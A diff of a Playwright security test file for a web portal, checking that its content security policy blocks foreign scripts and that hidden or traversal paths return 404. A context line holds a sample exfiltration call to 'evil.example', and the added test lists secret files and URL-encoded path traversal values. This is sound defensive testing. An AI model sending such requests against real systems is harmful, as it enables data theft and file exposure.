@@ -5,8 +5,8 @@ from urllib.parse import urlsplit
 import pytest
 from playwright.sync_api import Page, expect
 
+from portal_app import build
 from tests.e2e.people import ADMIN, CUSTOMER, OPERATOR, People, ready, sign_in
-from tests.security.pipeline import app
 
 WATCH = """() => { window.broken = []; addEventListener('securitypolicyviolation',
   (event) => window.broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`)); }"""
@@ -22,7 +22,9 @@ ATTEMPTS = """async () => {
   await later(() => document.forms[document.forms.length - 1].submit());
   await fetch('https://evil.example/?stolen').catch(() => 0);
 }"""
-PAGES = sorted(f"/{route}".replace("/index", "/") for route in app._unevaluated_pages if "[" not in route)
+
+
+HIDDEN = ("/.made-of", "/.git/config", "/.env", "/assets/", "/assets", "/portal.db", "/..%2f..%2fportal.db", "/.vite/x")
 
 
 def watched(people: People, email: str, path: str) -> Page:
@@ -38,13 +40,18 @@ def policy_kept(page: Page) -> None:
     assert page.evaluate("window.broken") == []
 
 
-@pytest.mark.parametrize("path", PAGES)
 @pytest.mark.parametrize("email", [ADMIN, OPERATOR, ""], ids=["admin", "operator", "nobody"])
-def test_no_page_needs_what_its_policy_forbids(people: People, email: str, path: str) -> None:
+def test_no_page_needs_what_its_policy_forbids(people: People, email: str) -> None:
+    """Each page that the build wrote, opened by its address; and one that there is not."""
     people.expect_fault(r"404")
-    page = watched(people, email, path)
-    expect(page.locator("h1").first).to_be_visible()
-    policy_kept(page)
+    folder = build.CLIENT
+    built = sorted(f"/{one.parent.relative_to(folder)}".removesuffix(".") for one in folder.rglob("index.html"))
+    assert {"/", "/login", "/accounts/new"} <= set(built)
+    for path in [*built, "/no/such/page"]:
+        page = watched(people, email, path)
+        expect(page.locator("h1").first, path).to_be_visible()
+        policy_kept(page)
+        page.close()
 
 
 def test_working_through_the_portal_needs_nothing_more(people: People) -> None:
@@ -87,3 +94,9 @@ def test_foreign_scripts_do_not_run(people: People) -> None:
     for directive in ("script-src-elem", "script-src-attr", "script-src", "connect-src", "form-action"):
         page.wait_for_function("(name) => window.broken.some((one) => one.startsWith(name + ' '))", arg=directive)
     assert page.evaluate("window.ran ?? 0") == 0
+
+
+@pytest.mark.parametrize("path", [*HIDDEN, "/%2e%2e/%2e%2e/rxconfig.py", "/assets/..%2f..%2f..%2frxconfig.py"])
+def test_only_the_pages_files_are_served(people: People, path: str) -> None:
+    """No hidden file, no list of a folder, nothing from beside the build."""
+    assert people.profile().request.get(path).status == 404
